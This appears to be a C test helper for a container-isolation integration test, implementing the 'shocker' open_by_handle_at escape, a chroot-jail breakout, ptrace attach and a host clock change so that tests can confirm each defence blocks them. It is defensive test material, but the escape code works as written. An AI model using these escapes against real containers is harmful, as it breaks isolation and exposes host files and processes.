/*
 * breakout-probe: the classic container escapes that busybox has no applet
 * for, one subcommand each, for test/integration/breakout.test.ts. Built
 * static on the host (gcc -static) and put into a test image next to busybox.
 *
 * Each subcommand makes the one system call the escape needs and prints what
 * a user would see: the result on stdout, or "<call>: <strerror>" on stderr
 * with exit code 1. None of them can harm the host: the worst any of them
 * does when the defence is missing is read a directory, attach to its own
 * child, or set the clock to the time it already is.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int fail(const char *what)
{
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
    return 1;
}

/* The names in an open directory, one a line. */
static int list_dir(int dirfd)
{
    DIR *d = fdopendir(dirfd);
    if (!d)
        return fail("fdopendir");
    struct dirent *e;
    while ((e = readdir(d)))
        if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
            printf("%s\n", e->d_name);
    closedir(d);
    return 0;
}

/* handle PATH: print the file handle of PATH as "TYPE HEX" (run on the host). */
static int handle(const char *path)
{
    struct file_handle *fh = malloc(sizeof(*fh) + MAX_HANDLE_SZ);
    int mount_id;
    fh->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, path, fh, &mount_id, 0) < 0)
        return fail("name_to_handle_at");
    printf("%d ", fh->handle_type);
    for (unsigned i = 0; i < fh->handle_bytes; i++)
        printf("%02x", fh->f_handle[i]);
    printf("\n");
    return 0;
}

/*
 * open-by-handle FILE TYPE HEX: the "shocker" escape (2014). FILE is any file
 * the container sees on the host's filesystem (a bind mount such as
 * /etc/hostname); the handle names a directory of that filesystem by inode,
 * which the kernel opens without looking at paths, so without caring about
 * the container's root. Needs CAP_DAC_READ_SEARCH; Docker's seccomp profile
 * allows the call only with that capability.
 */
static int open_by_handle(const char *file, const char *type, const char *hex)
{
    size_t n = strlen(hex) / 2;
    struct file_handle *fh = malloc(sizeof(*fh) + n);
    fh->handle_bytes = n;
    fh->handle_type = atoi(type);
    for (size_t i = 0; i < n; i++)
        sscanf(hex + 2 * i, "%2hhx", &fh->f_handle[i]);
    int mount_fd = open(file, O_RDONLY);
    if (mount_fd < 0)
        return fail("open");
    int fd = open_by_handle_at(mount_fd, fh, O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return fail("open_by_handle_at");
    return list_dir(fd);
}

/*
 * chroot-escape: the classic way out of a chroot jail. chroot() into a
 * subdirectory but keep the working directory outside it, climb with
 * chdir("..") (nothing stops at a root you are not under), then chroot(".")
 * where the climb ended. Prints what "/" holds afterwards.
 */
static int chroot_escape(void)
{
    if (mkdir("/breakout-jail", 0755) < 0 && errno != EEXIST)
        return fail("mkdir");
    if (chdir("/") < 0)
        return fail("chdir");
    if (chroot("/breakout-jail") < 0)
        return fail("chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return fail("chdir");
    if (chroot(".") < 0)
        return fail("chroot");
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return fail("open");
    return list_dir(fd);
}

/* ptrace-child: attach to a child of our own (Docker's profile allows ptrace). */
static int ptrace_child(void)
{
    pid_t child = fork();
    if (child < 0)
        return fail("fork");
    if (child == 0) {
        for (;;)
            pause();
    }
    int rc = 0;
    if (ptrace(PTRACE_ATTACH, child, 0, 0) < 0) {
        rc = fail("ptrace(PTRACE_ATTACH)");
    } else {
        int status;
        waitpid(child, &status, 0); /* it stops on attach */
        printf("attached to my child %d: %s\n", child, WIFSTOPPED(status) ? "stopped" : "?");
        ptrace(PTRACE_DETACH, child, 0, 0);
    }
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return rc;
}

/* ptrace PID: attach to a process by pid (a host process is not in our PID namespace). */
static int ptrace_pid(const char *pid)
{
    if (ptrace(PTRACE_ATTACH, (pid_t)atoi(pid), 0, 0) < 0)
        return fail("ptrace(PTRACE_ATTACH)");
    printf("attached to %s\n", pid);
    ptrace(PTRACE_DETACH, (pid_t)atoi(pid), 0, 0);
    return 0;
}

/*
 * settime: set the system clock to what it reads now. Needs CAP_SYS_TIME, and
 * the clock is not namespaced: it would be the host's. Reading it just before
 * makes a missing defence harmless (the clock moves back by microseconds).
 */
static int settime(void)
{
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    if (clock_settime(CLOCK_REALTIME, &now) < 0)
        return fail("clock_settime");
    printf("clock set\n");
    return 0;
}

int main(int argc, char **argv)
{
    const char *cmd = argc > 1 ? argv[1] : "";
    if (!strcmp(cmd, "handle") && argc == 3)
        return handle(argv[2]);
    if (!strcmp(cmd, "open-by-handle") && argc == 5)
        return open_by_handle(argv[2], argv[3], argv[4]);
    if (!strcmp(cmd, "chroot-escape"))
        return chroot_escape();
    if (!strcmp(cmd, "ptrace-child"))
        return ptrace_child();
    if (!strcmp(cmd, "ptrace") && argc == 3)
        return ptrace_pid(argv[2]);
    if (!strcmp(cmd, "settime"))
        return settime();
    fprintf(stderr, "usage: breakout-probe handle PATH | open-by-handle FILE TYPE HEX | chroot-escape | ptrace-child | ptrace PID | settime\n");
    return 2;
}
